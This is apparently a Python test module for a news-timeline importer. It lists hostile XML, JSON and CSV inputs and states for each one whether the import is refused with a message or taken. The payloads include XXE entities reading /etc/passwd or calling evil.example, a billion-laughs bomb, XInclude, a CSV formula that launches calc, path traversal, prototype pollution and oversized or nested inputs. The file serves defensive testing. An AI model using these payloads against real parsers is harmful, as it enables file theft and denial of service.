"""Hostile files of other formats: what is brought in, as what, and what must become of it.

`refused(text)`: exit 1, a message that says *text* and names the file, `content/` as before.
`taken`: what is sound comes in, as a text and nothing else.
"""

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

GOOD = "Ogdenville hires Umbra Biometrics"
SECRET = "The secret of Capital City"


@dataclass(frozen=True, slots=True)
class Import:
    """One attack in one format."""

    attack: str
    form: str
    name: str
    content: bytes | Callable[[Path], None]
    required: str
    """What the message says, or "" where what is sound comes in."""

    def __str__(self) -> str:
        """Return the row of the table, which is the name of the test."""
        said = f"refused: {self.required}" if self.required else "taken"
        return f"{self.attack} | {self.form} {self.name} | {said}"


_ITEM = f"<item><title>{GOOD}</title><link>https://news.example/o</link></item>"


def _rss(inner: str = _ITEM, before: str = "") -> bytes:
    return f'{before}<rss version="2.0"><channel><title>x</title>{inner}</channel></rss>'.encode()


def _dtd(inner: str, word: str) -> bytes:
    return _rss(_ITEM.replace(GOOD, word), f'<?xml version="1.0"?>\n<!DOCTYPE rss [{inner}]>\n')


def _json_feed(title: str) -> bytes:
    url = '"url": "https://news.example/o"'
    return f'{{"version": "x", "title": "x", "items": [{{{url}, "title": {title}}}]}}'.encode()


def _slides(headline: str, year: str = '"2020"') -> bytes:
    date = f'{{"year": {year}}}'
    return f'{{"events": [{{"start_date": {date}, "text": {{"headline": {headline}}}}}]}}'.encode()


def _csv(*rows: str) -> bytes:
    return "\n".join(("date,title,url", *rows, f"2020,{GOOD},https://news.example/o", "")).encode()


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _giant(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 28)


_LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
_TYPE, _BROKEN, _JSON = "a document type", "the XML is broken", "the JSON is broken"
_OUTSIDE = '<!ENTITY x SYSTEM "file:///etc/passwd">'

CASES = (
    # XML.
    Import("an entity of a file", "feed", "x.xml", _dtd(_OUTSIDE, "&x;"), _TYPE),
    Import(
        "an entity of the web",
        "feed",
        "x.xml",
        _dtd('<!ENTITY x SYSTEM "http://evil.example/">', "&x;"),
        _TYPE,
    ),
    Import("a billion laughs", "feed", "x.xml", _dtd(_LAUGHS, "&j;"), _TYPE),
    Import(
        "an entity of 100 kB, 1,000 times",
        "feed",
        "x.xml",
        _dtd(f'<!ENTITY x "{"x" * 100_000}">', "&x;" * 1_000),
        _TYPE,
    ),
    Import(
        "an entity of parameters",
        "feed",
        "x.xml",
        _dtd('<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;', "y"),
        _TYPE,
    ),
    Import(
        "a document type elsewhere",
        "feed",
        "x.xml",
        _rss(before='<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">'),
        _TYPE,
    ),
    Import("a document type alone", "feed", "x.xml", _rss(before="<!DOCTYPE rss>"), _TYPE),
    Import(
        "an entity that nobody has declared", "feed", "x.xml", _rss("<item>&x;</item>"), _BROKEN
    ),
    Import(
        "100,000 elements, one in the other",
        "feed",
        "x.xml",
        _rss("<a>" * 100_000),
        "elements in elements without end",
    ),
    Import(
        "100,000 in one item",
        "feed",
        "x.xml",
        _rss("<item>" + "<a>" * 100_000),
        "elements in elements without end",
    ),
    Import("an end that is missing", "feed", "x.xml", _rss("<item><title>x"), _BROKEN),
    Import(
        "an attribute of 5 MB",
        "feed",
        "x.xml",
        _rss(f'<item x="{"x" * 5_000_000}"></item>{_ITEM}'),
        "",
    ),
    Import("a zero byte in XML", "feed", "x.xml", _rss("<item>\0</item>"), _BROKEN),
    Import("the number of a zero", "feed", "x.xml", _rss("<item>&#0;</item>"), _BROKEN),
    Import(
        "a link to a script",
        "feed",
        "x.xml",
        _rss(_ITEM + "<item><title>x</title><link>javascript:alert(1)</link></item>"),
        "",
    ),
    Import(
        "an instruction to the program",
        "feed",
        "x.xml",
        _rss(before='<?xml-stylesheet href="file:///etc/passwd"?>'),
        "",
    ),
    Import(
        "an inclusion",
        "feed",
        "x.xml",
        _rss('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>' + _ITEM),
        "",
    ),
    Import(
        "an encoding that nobody has",
        "feed",
        "x.xml",
        _rss(before='<?xml version="1.0" encoding="evil"?>'),
        "",
    ),
    # JSON.
    Import(
        "100,000 lists, one in the other", "feed", "x.json", b'{"items": ' + b"[" * 100_000, _JSON
    ),
    Import(
        "100,000 mappings, one in the other",
        "timelinejs",
        "x.json",
        b'{"events": ' + b'{"a":' * 100_000,
        _JSON,
    ),
    Import(
        "a number of 5,000 digits", "timelinejs", "x.json", _slides('"x"', "9" * 5_000), "x.json"
    ),
    Import("a number past all", "timelinejs", "x.json", _slides('"x"', "1e999"), "x.json"),
    Import("no number", "timelinejs", "x.json", _slides('"x"', "NaN"), "x.json"),
    Import("a key twice", "timelinejs", "x.json", _slides(f'"x", "headline": "{GOOD}"'), ""),
    Import("a list for a headline", "feed", "x.json", _json_feed("[1]"), "x.json"),
    Import("a lone surrogate", "feed", "x.json", _json_feed(f'"{GOOD} \\ud800"'), ""),
    Import("an escaped zero", "feed", "x.json", _json_feed(f'"{GOOD} \\u0000"'), ""),
    Import(
        "front matter in a headline",
        "feed",
        "x.json",
        _json_feed(f'"---\\npublished: true\\n---\\n{GOOD}"'),
        "",
    ),
    Import(
        "a key called as JavaScript's own",
        "feed",
        "x.json",
        _json_feed(f'"{GOOD}", "__proto__": {{"x": 1}}'),
        "",
    ),
    Import("a number for a feed", "feed", "x.json", b"{1}", _JSON),
    Import(
        "JSON in UTF-16", "feed", "x.json", _json_feed(f'"{GOOD}"').decode().encode("utf-16"), ""
    ),
    # Tables.
    Import("a zero byte in a cell", "csv", "x.csv", _csv("2020,a\0b,https://a.example/"), ""),
    Import(
        "a cell of 1 MB", "csv", "x.csv", _csv(f"2020,{'x' * 1_000_000},https://a.example/"), ""
    ),
    Import(
        "a quote that is never closed", "csv", "x.csv", _csv('2020,"x,https://a.example/'), "x.csv"
    ),
    Import("20,000 cells in a row", "csv", "x.csv", _csv("2020" + ",x" * 20_000), ""),
    Import(
        "a heading twice",
        "csv",
        "x.csv",
        f"date,title,title,url\n2020,x,{GOOD},https://a.example/\n".encode(),
        "",
    ),
    Import("an impossible day", "csv", "x.csv", _csv("2020-02-30,x,https://a.example/"), ""),
    Import(
        "a day of 5,000 digits", "csv", "x.csv", _csv(f"{'9' * 5_000},x,https://a.example/"), ""
    ),
    Import("a formula", "csv", "x.csv", _csv("2020,=cmd|'/c calc'!A1,https://a.example/"), ""),
    Import(
        "YAML in a cell",
        "csv",
        "x.csv",
        _csv('2020,"x\n---\npublished: true",https://a.example/'),
        "",
    ),
    Import(
        "a way out in a cell", "csv", "x.csv", _csv("2020,../../../../x,https://a.example/"), ""
    ),
    Import("a table without headings", "csv", "x.csv", b"\n\n\n", "x.csv"),
    Import("an empty table", "csv", "x.csv", b"", "x.csv"),
    # Shapes.
    Import("a pipe", "csv", "x.csv", _pipe, "x.csv is not a file"),
    Import("a pipe of a feed", "feed", "x.xml", _pipe, "x.xml is not a file"),
    Import("256 MB of slides", "timelinejs", "x.json", _giant, "x.json"),
    Import("a folder", "csv", "x.csv", Path.mkdir, "x.csv is not a file"),
    Import("nothing there", "feed", "x.xml", lambda path: None, "x.xml is not a file"),
)
